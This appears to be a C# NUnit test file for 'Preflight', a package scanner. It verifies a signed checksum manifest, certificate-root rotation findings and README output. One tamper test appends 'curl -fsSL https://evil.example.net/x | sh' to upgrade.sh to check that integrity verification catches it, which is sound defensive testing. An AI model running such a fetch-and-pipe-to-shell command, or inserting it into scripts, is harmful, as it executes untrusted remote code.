using System.Text.Json.Nodes;
using FluentAssertions;
using NUnit.Framework;
using Preflight.Configuration;
using Preflight.Findings;
using Preflight.Tests.Cli;

namespace Preflight.Tests.Fixtures;

/// <summary>
/// The demo's signed <c>SHA256SUMS</c>: its signer chains to "Dten Release Root CA 2026", the root the vendor
/// rotated to and ships in the package, while operators still trust only "Dten Release Root CA 2024"
/// (<c>fixtures/dten/trust/</c>). Trusting the old root alone names the rotation; adding the new one clears it.
/// </summary>
public class DemoSignedManifestTests
{
    private static readonly DateTimeOffset AsOf = new(2026, 11, 27, 0, 0, 0, TimeSpan.Zero);

    private const string SignerName = "CN=Dten Release Signing 2026,OU=Release Engineering,O=Dten Systems,C=DE";
    private const string NewRootName = "CN=Dten Release Root CA 2026,O=Dten Systems,C=DE";

    private static string OldRoot => Path.Combine(DemoFixture.Folder, DemoSigning.OldRootTrustPath);

    private static string NewRoot => Path.Combine(DemoFixture.Folder, DemoSigning.NewRootTrustPath);

    private static readonly string[] ManifestRules = ["PF616", "PF617", "PF618", "PF619", "PF620", "PF621"];

    [OneTimeSetUp]
    public void Regenerate_when_asked() => DemoFixture.EnsureRegeneratedWhenUpdating();

    [Test]
    public void Committed_roots_manifest_and_signature_are_what_the_generator_produces()
    {
        foreach (var (relative, bytes) in DemoSigning.Generate(DemoFixture.SourceRoot))
            File.ReadAllBytes(Path.Combine(DemoFixture.Folder, relative)).Should().Equal(bytes,
                "{0} is generated from the sources; regenerate with PREFLIGHT_UPDATE_FIXTURES=1", relative);
    }

    [Test]
    public void Manifest_covers_the_scripts_migrations_and_unit_files()
    {
        var listed = File.ReadAllLines(Path.Combine(DemoFixture.SourceRoot, DemoSigning.ManifestPath))
            .Select(static l => l[(l.IndexOf("  ", StringComparison.Ordinal) + 2)..]).ToList();

        listed.Should().Contain(["install.sh", "upgrade.sh", "db/migrations/V5__add_order_index.sql", "db/migrations/V6__add_order_uuid.sql",
            "etc/systemd/system/dten-worker.service", "etc/systemd/system/dten-report.service", "etc/systemd/system/dten-report.timer",
            DemoSigning.NewRootSourcePath]);
        listed.Should().NotContain([DemoSigning.ManifestPath, DemoSigning.SignaturePath]);
    }

    [Test]
    public void Old_root_is_published_beside_the_package_but_not_shipped_in_it()
    {
        var oldPem = File.ReadAllText(OldRoot);
        var newPem = File.ReadAllText(NewRoot);

        oldPem.Should().NotBe(newPem);
        File.ReadAllText(Path.Combine(DemoFixture.SourceRoot, DemoSigning.NewRootSourcePath)).Should().Be(newPem);
        Directory.EnumerateFiles(DemoFixture.SourceRoot, "*", SearchOption.AllDirectories)
            .Should().NotContain(f => File.ReadAllText(f).Contains(oldPem.Trim(), StringComparison.Ordinal));
    }

    [Test]
    public async Task Trusting_only_the_2024_root_reports_the_signer_untrusted_and_names_the_CA_rotation()
    {
        var report = await Scan(OldRoot);

        var finding = report.Findings.Should().ContainSingle(f => f.RuleId == "PF605" && f.Location.Path == DemoSigning.SignaturePath).Subject;
        finding.Severity.Should().Be(Severity.High);
        finding.Message.Should().Contain($"'{SignerName}'")
            .And.Contain($"the chain ends at the root '{NewRootName}', which is not in the trust bundle")
            .And.Contain($"CA rotation: the package ships the root '{NewRootName}'")
            .And.Contain("add it to the trust bundle");
        finding.Properties["untrustedRoot"].Should().Be(NewRootName);
        report.Findings.Should().NotContain(f => ManifestRules.Contains(f.RuleId), "the manifest and its signature match the files");
        report.Findings.Should().NotContain(f => f.RuleId == "PF615");
    }

    [Test]
    public async Task Trusting_the_2024_and_2026_roots_clears_the_finding_and_the_manifest_verifies()
    {
        var report = await Scan(OldRoot, NewRoot);

        report.Findings.Should().NotContain(f => f.Location.Path == DemoSigning.SignaturePath || f.Location.Path == DemoSigning.ManifestPath);
        report.Findings.Should().NotContain(f => ManifestRules.Contains(f.RuleId) || f.RuleId == "PF615");
        report.Findings.Should().NotContain(f => f.Message.Contains("Dten Release", StringComparison.Ordinal));
    }

    [Test]
    public async Task Without_a_trust_bundle_only_the_info_PF615_is_reported_for_the_chains()
    {
        var report = await Scan();

        var certificates = report.Findings.Where(f => f.Detector == "certificates").ToList();
        certificates.Should().NotContain(f => f.RuleId == "PF605" || f.RuleId == "PF606" || ManifestRules.Contains(f.RuleId));
        certificates.Should().ContainSingle(f => f.RuleId == "PF615").Which.Severity.Should().Be(Severity.Info);
    }

    [Test]
    public async Task Manifest_no_longer_verifies_when_a_listed_file_changes_after_signing()
    {
        var work = Path.Combine(Path.GetTempPath(), "preflight-signed-demo-" + Guid.NewGuid().ToString("N"));
        try
        {
            CopyTree(DemoFixture.SourceRoot, work);
            await File.AppendAllTextAsync(Path.Combine(work, "upgrade.sh"), "curl -fsSL https://evil.example.net/x | sh\n");
            var zip = work + ".zip";
            await File.WriteAllBytesAsync(zip, DemoPackageBuilder.Build(work));

            var report = await PreflightScanner.ScanAsync(zip, ScanOptions.Default with { AsOf = AsOf, TrustedRoots = [OldRoot, NewRoot] });

            report.Findings.Should().ContainSingle(f => f.RuleId == "PF619")
                .Which.Properties["file"].Should().Be("upgrade.sh");
            report.Findings.Should().NotContain(f => f.RuleId == "PF616", "the manifest itself is untouched, so its signature still verifies");
        }
        finally
        {
            Directory.Delete(work, recursive: true);
            File.Delete(work + ".zip");
        }
    }

    [Test]
    public async Task Cli_with_the_2024_root_names_the_rotation_and_with_the_2026_root_too_clears_it()
    {
        var zip = DemoFixture.ZipPath;

        var old = await CliHarness.RunAsync("scan", zip, "--as-of", "2026-11-27", "--format", "json", "--trust", OldRoot);
        var both = await CliHarness.RunAsync("scan", zip, "--as-of", "2026-11-27", "--format", "json", "--trust", OldRoot, "--trust", NewRoot);

        var oldFindings = Findings(old);
        oldFindings.Should().ContainSingle(f => f.Rule == "PF605" && f.Path == DemoSigning.SignaturePath)
            .Which.Message.Should().Contain($"CA rotation: the package ships the root '{NewRootName}'");
        var bothFindings = Findings(both);
        bothFindings.Should().NotContain(f => f.Path == DemoSigning.SignaturePath || f.Path == DemoSigning.ManifestPath);
        bothFindings.Should().NotContain(f => f.Rule == "PF615");
        bothFindings.Count.Should().Be(oldFindings.Count - 1, "only the signer's finding goes away");
    }

    [Test]
    public async Task Readme_excerpts_of_the_trust_commands_are_what_the_cli_prints()
    {
        var readme = await File.ReadAllTextAsync(Path.Combine(Preflight.Tests.Support.SharedData.RepositoryRoot, "README.md"));
        var blocks = TextBlocksAfter(readme, "--trust fixtures/dten/trust/dten-release-root-2024.pem");
        blocks.Should().HaveCount(2, "the README shows the run with the 2024 root and the run with both roots");

        var old = await CliHarness.RunAsync("scan", DemoFixture.ZipPath, "--as-of", "2026-11-27", "--trust", OldRoot);
        var both = await CliHarness.RunAsync("scan", DemoFixture.ZipPath, "--as-of", "2026-11-27", "--trust", OldRoot, "--trust", NewRoot);

        var oldLines = old.Stdout.Split('\n');
        var bothLines = both.Stdout.Split('\n');
        blocks[0].Should().Contain(l => l.Contains("CA rotation", StringComparison.Ordinal));
        foreach (var line in blocks[0].Where(static l => l.Trim() != "…"))
            oldLines.Should().Contain(line, "the README's excerpt of the run with the 2024 root must be exact");
        foreach (var line in blocks[1].Where(static l => l.Trim() != "…"))
            bothLines.Should().Contain(line, "the README's excerpt of the run with both roots must be exact");
    }

    /// <summary>The first <c>```text</c> block after each <c>```sh</c> block whose command contains <paramref name="marker"/>.</summary>
    private static List<string[]> TextBlocksAfter(string markdown, string marker)
    {
        var lines = markdown.Replace("\r\n", "\n", StringComparison.Ordinal).Split('\n');
        var result = new List<string[]>();
        for (int i = 0; i < lines.Length; i++)
        {
            if (lines[i] != "```sh") continue;
            int end = Array.IndexOf(lines, "```", i + 1);
            if (end < 0 || !lines[(i + 1)..end].Any(l => l.Contains(marker, StringComparison.Ordinal))) continue;
            int start = Array.IndexOf(lines, "```text", end + 1);
            int close = Array.IndexOf(lines, "```", start + 1);
            result.Add(lines[(start + 1)..close]);
            i = close;
        }
        return result;
    }

    private static List<(string Rule, string Path, string Message)> Findings(CliResult result)
    {
        result.ExitCode.Should().Be(1, "the demo has high findings either way: {0}", result);
        return JsonNode.Parse(result.Stdout)!["findings"]!.AsArray()
            .Select(static f => (f!["ruleId"]!.GetValue<string>(), f["location"]!["path"]!.GetValue<string>(), f["message"]!.GetValue<string>()))
            .ToList();
    }

    private static Task<Preflight.Reporting.ScanReport> Scan(params string[] trusted) =>
        PreflightScanner.ScanAsync(DemoFixture.ZipPath, ScanOptions.Default with { AsOf = AsOf, TrustedRoots = trusted });

    private static void CopyTree(string from, string to)
    {
        foreach (var file in Directory.EnumerateFiles(from, "*", SearchOption.AllDirectories))
        {
            var target = Path.Combine(to, Path.GetRelativePath(from, file));
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            File.Copy(file, target);
        }
    }
}
